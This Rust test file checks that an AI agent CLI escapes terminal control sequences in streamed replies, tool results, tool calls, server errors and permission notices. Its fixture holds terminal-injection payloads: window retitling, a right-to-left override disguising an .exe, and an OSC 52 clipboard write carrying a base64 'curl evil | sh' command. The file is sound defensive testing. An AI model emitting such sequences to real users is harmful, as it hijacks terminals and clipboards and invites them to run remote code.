//! Nothing a model, a tool, a server or a notification wrote reaches the terminal raw
//! (issue 17): escape sequences in a streamed reply, in a tool result the model repeats, in a
//! call's name and arguments, in a server's error and in a permission request are shown
//! escaped on stdout and stderr, and the lines of a reply are kept.

use serde_json::json;

use crate::common;
use common::Env;

/// What a hostile tool output or reply carries: OSC 0 (retitle the window), OSC 52 (write
/// the clipboard), C1 CSI (clear the screen, on terminals that take 8-bit controls), BEL, and
/// a right-to-left override.
const HOSTILE: &str = "title \u{1b}]0;pwned\u{7} clip \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7} \
                       csi \u{9b}2J rlo \u{202E}gpj.exe";

/// The escaped form every printer shows for [`HOSTILE`].
const SHOWN: &str = "title \\u{001b}]0;pwned\\u{0007} clip \\u{001b}]52;c;Y3VybCBldmlsIHwgc2g=\
                     \\u{0007} csi \\u{009b}2J rlo \\u{202e}gpj.exe";

/// Runs `cmd`; its exit code and raw stdout and stderr bytes.
fn output(cmd: std::process::Command, stdin: &[u8]) -> (i32, Vec<u8>, Vec<u8>) {
    let out = assert_cmd::Command::from_std(cmd)
        .write_stdin(stdin.to_vec())
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    (out.status.code().unwrap_or(-1), out.stdout, out.stderr)
}

/// The raw control bytes and chars a terminal would act on: C0 but line feed and tab, DEL,
/// C1 (as UTF-8 and as raw 8-bit bytes), and the bidi overrides.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    let mut found: Vec<String> = bytes
        .iter()
        .filter(|&&b| (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f)
        .map(|b| format!("byte {b:#04x}"))
        .collect();
    let text = String::from_utf8_lossy(bytes);
    found.extend(
        text.chars()
            .filter(|&c| {
                ('\u{80}'..='\u{9f}').contains(&c)
                    || ('\u{202a}'..='\u{202e}').contains(&c)
                    || ('\u{2066}'..='\u{2069}').contains(&c)
                    || c == char::REPLACEMENT_CHARACTER
            })
            .map(|c| format!("char U+{:04X}", c as u32)),
    );
    found
}

fn assert_clean(what: &str, bytes: &[u8]) {
    let found = raw_controls(bytes);
    assert!(
        found.is_empty(),
        "{what} reached the terminal raw: {found:?}\n{}",
        String::from_utf8_lossy(bytes)
    );
}

/// A reply streamed over real HTTP in chunks, one chunk ending in a bare ESC and the next
/// starting with the rest of its OSC sequence; a tool result the reply repeats; a call whose
/// name and arguments carry escapes. Before issue 17 the chunks were printed as they came, ESC
/// and all, and the call's name and C1 chars were printed raw.
#[test]
fn a_streamed_reply_and_the_calls_it_makes_are_shown_escaped() {
    use keel_model::testing::{serve, sse};
    let env = Env::new();
    std::fs::write(env.work().join("motd.txt"), HOSTILE).unwrap_or_else(|e| panic!("{e}"));
    let (head, tail) = HOSTILE.split_at(HOSTILE.find("]0;").unwrap_or_else(|| unreachable!()));
    assert!(head.ends_with('\u{1b}'));
    let server = serve(vec![
        sse(&[json!({"choices": [{"delta": {"tool_calls": [
            {"index": 0, "id": "call_a", "function": {"name": "read_file",
                "arguments": "{\"path\":\"motd.txt\"}"}},
            {"index": 1, "id": "call_b", "function": {"name": "\u{1b}]0;tool\u{7}",
                "arguments": "{\"why\":\"\u{9b}31m\u{202E}\"}"}}
        ]}, "finish_reason": "tool_calls"}]})]),
        sse(&[
            json!({"choices": [{"delta": {"content": "The file says: "}}]}),
            json!({"choices": [{"delta": {"content": head}}]}),
            json!({"choices": [{"delta": {"content": tail}}]}),
            json!({"choices": [{"delta": {"content": "\nline two\n\tindented"},
                "finish_reason": "stop"}]}),
        ]),
    ]);
    let mut cmd = env.cmd(&[
        "run",
        "what is in motd.txt?",
        "--model",
        "openai:local-test",
        "--base-url",
        &server.url,
        "--approval",
        "deny",
    ]);
    cmd.env_remove("OPENAI_API_KEY");
    let (code, out, err) = output(cmd, b"");
    let (shown_out, shown_err) = (String::from_utf8_lossy(&out), String::from_utf8_lossy(&err));
    assert_eq!(code, 0, "{shown_err}");
    assert_clean("stdout", &out);
    assert_clean("stderr", &err);
    // The reply, escaped where the chunks met, its lines and tab kept.
    assert!(
        shown_out.contains(&format!("The file says: {SHOWN}\nline two\n\tindented")),
        "{shown_out}"
    );
    // The call's name and arguments, escaped on the line that shows the call.
    assert!(
        shown_err.contains("→ \\u{001b}]0;tool\\u{0007} {\"why\":\"\\u{009b}31m\\u{202e}\"}"),
        "{shown_err}"
    );
    // The model did read the hostile file: the tool result it repeated is in its request.
    let requests = keel_model::testing::seen(&server);
    assert!(
        requests[1].body["messages"]
            .as_array()
            .is_some_and(|m| m.iter().any(|m| m["content"] == HOSTILE)),
        "{:?}",
        requests[1].body
    );
}

/// The scripted provider answers in one piece: its text, with every sequence, is escaped too,
/// and `keel runs show` shows the tool result it repeated escaped.
#[test]
fn a_scripted_reply_repeating_a_tool_result_is_shown_escaped() {
    let env = Env::new();
    std::fs::write(env.work().join("motd.txt"), HOSTILE).unwrap_or_else(|e| panic!("{e}"));
    let model = env.script(
        "s.jsonl",
        &[
            common::call("read_file", json!({"path": "motd.txt"})),
            json!({"text": format!("It says: {HOSTILE}\nbye")}),
        ],
    );
    let (code, out, err) = output(
        env.cmd(&[
            "run",
            "read motd.txt",
            "--model",
            &model,
            "--approval",
            "deny",
        ]),
        b"",
    );
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&err));
    assert_clean("stdout", &out);
    assert_clean("stderr", &err);
    let shown = String::from_utf8_lossy(&out);
    assert!(shown.contains(&format!("It says: {SHOWN}\nbye")), "{shown}");
    let run = env.only_run();
    let (code, out, _) = output(env.cmd(&["runs", "show", &run]), b"");
    assert_eq!(code, 0);
    assert_clean("keel runs show", &out);
}

/// A server's error message and a background task's permission request are quoted on stderr:
/// escaped too.
#[test]
fn errors_and_notices_quoting_others_are_shown_escaped() {
    use keel_model::testing::{http, serve};
    let env = Env::new();
    let body = json!({"error": {"message": format!("overloaded {HOSTILE}")}}).to_string();
    let server = serve(vec![http("400 Bad Request", "", &body)]);
    let mut cmd = env.cmd(&[
        "run",
        "hello",
        "--model",
        "openai:local-test",
        "--base-url",
        &server.url,
    ]);
    cmd.env_remove("OPENAI_API_KEY");
    let (code, out, err) = output(cmd, b"");
    let shown = String::from_utf8_lossy(&err);
    assert_ne!(code, 0, "{shown}");
    assert!(shown.contains("keel: error:"), "{shown}");
    assert!(
        shown.contains("overloaded title \\u{001b}]0;pwned"),
        "{shown}"
    );
    assert_clean("stdout", &out);
    assert_clean("stderr", &err);

    // A permission request, delivered on resume: the notice quotes its payload.
    let run = env.only_run();
    let (code, _, err) = output(
        env.cmd(&["notify", &run, "--kind", "permission", "--id", "p1"]),
        format!("run this: {HOSTILE}").as_bytes(),
    );
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&err));
    // One reply for the turn the error left open, one for the notification's own turn.
    let model = env.script(
        "s.jsonl",
        &[
            json!({"text": "Hello."}),
            json!({"text": "A task asks to act."}),
        ],
    );
    let (code, out, err) = output(
        env.cmd(&[
            "runs",
            "resume",
            &run,
            "--model",
            &model,
            "--approval",
            "deny",
        ]),
        b"",
    );
    let shown = String::from_utf8_lossy(&err);
    assert_eq!(code, 0, "{shown}");
    assert!(shown.contains("asks for your permission"), "{shown}");
    assert_clean("stdout", &out);
    assert_clean("stderr", &err);
}

/// `keel call` is a machine wire: its bytes are JSON's, unchanged (interfaces.md §1), and JSON
/// already escapes ESC and BEL.
#[test]
fn keel_call_output_is_a_wire_and_left_alone() {
    let env = Env::new();
    let input = json!({"kind": "search_result", "payload": HOSTILE}).to_string();
    let (code, out, err) = output(env.cmd(&["call", "notification-context"]), input.as_bytes());
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&err));
    let expected = format!(
        "{}\n",
        serde_json::to_string(&keel_core::notify::notification_context(
            keel_core::notify::NotificationKind::SearchResult,
            HOSTILE,
            None
        ))
        .unwrap_or_default()
    );
    assert_eq!(String::from_utf8_lossy(&out), expected);
    assert!(!out.contains(&0x1b), "JSON escapes ESC itself");
}
